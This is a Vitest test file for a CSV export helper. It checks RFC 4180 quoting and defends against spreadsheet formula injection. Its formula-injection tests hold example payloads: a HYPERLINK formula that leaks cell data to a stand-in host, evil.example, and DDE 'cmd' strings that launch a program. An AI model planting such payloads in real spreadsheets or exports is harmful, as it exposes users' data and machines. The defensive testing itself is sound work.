import { describe, expect, it } from 'vitest';
import { csvField, csvFileName, csvLine, csvLines, looksLikeFormula } from './csv';

describe('csvLine', () => {
  it('leaves plain fields alone and ends the line with CRLF', () => {
    expect(csvLine(['1', 'abc', ' padded '])).toBe('1,abc, padded \r\n');
  });

  it('quotes fields holding commas, quotes or line breaks, doubling the quotes', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'cr\r'])).toBe('"a,b","say ""hi""","two\nlines","cr\r"\r\n');
  });

  it('writes NULL as an empty field and keeps an empty string empty', () => {
    expect(csvLine([null, '', 'x'])).toBe(',,x\r\n');
  });
});

describe('csvLines', () => {
  it('writes many rows as one text, each its own CRLF line', () => {
    expect(csvLines([['1', 'a'], ['2', null], ['3', 'c,d']])).toBe('1,a\r\n2,\r\n3,"c,d"\r\n');
    expect(csvLines([])).toBe('');
  });

  it('escapes formula-like cells in every row, and leaves them raw when asked', () => {
    expect(csvLines([['=1+1'], ['@SUM(A1)']])).toBe(`"'=1+1"\r\n"'@SUM(A1)"\r\n`);
    expect(csvLines([['=1+1'], ['@SUM(A1)']], { raw: true })).toBe('=1+1\r\n@SUM(A1)\r\n');
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  it('prefixes a single quote to cells starting with = + - @ tab or CR, and quotes the field', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csvField("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvField('@SUM(1+1)*cmd|" /C calc"!A0')).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('escapes a lone sign and text after a minus, which a spreadsheet would still evaluate', () => {
    expect(csvField('-')).toBe(`"'-"`);
    expect(csvField('-A1')).toBe(`"'-A1"`);
    expect(csvField('-1+1')).toBe(`"'-1+1"`);
    expect(csvField('-inf')).toBe(`"'-inf"`);
  });

  it('keeps negative numbers as Snowflake formats them numeric', () => {
    for (const number of ['-12.5', '-0', '-42', '-1.5e-7', '-3E+10']) expect(csvField(number)).toBe(number);
    expect(csvLine(['-12.5', '=1'])).toBe(`-12.5,"'=1"\r\n`);
  });

  it('leaves cells with a formula character after the first alone', () => {
    for (const value of ['a=b', ' =1+1', '1-2', 'x@example.com', '12.5']) expect(looksLikeFormula(value)).toBe(false);
    expect(csvField('x@example.com')).toBe('x@example.com');
  });

  it('writes every cell as it is in raw mode, quoting only what RFC 4180 needs', () => {
    expect(csvLine(['=1+1', '+1', '@x', '\tx', '-A1', '=a,b'], { raw: true })).toBe('=1+1,+1,@x,\tx,-A1,"=a,b"\r\n');
    expect(csvField('\r=1', { raw: true })).toBe('"\r=1"');
  });

  it('escapes a formula-like header too (a quoted column name can be anything)', () => {
    expect(csvLine(['ID', '=cmd'])).toBe(`ID,"'=cmd"\r\n`);
  });

  it('writes NULL empty whether raw or not', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(null, { raw: true })).toBe('');
  });
});

describe('csvFileName', () => {
  it('names the file after the query id, with nothing a header could trip on', () => {
    expect(csvFileName('01b2c3d4-0000-1111-2222-333344445555')).toBe('flurry-01b2c3d4-0000-1111-2222-333344445555.csv');
    expect(csvFileName('a"b;c')).toBe('flurry-a_b_c.csv');
  });
});
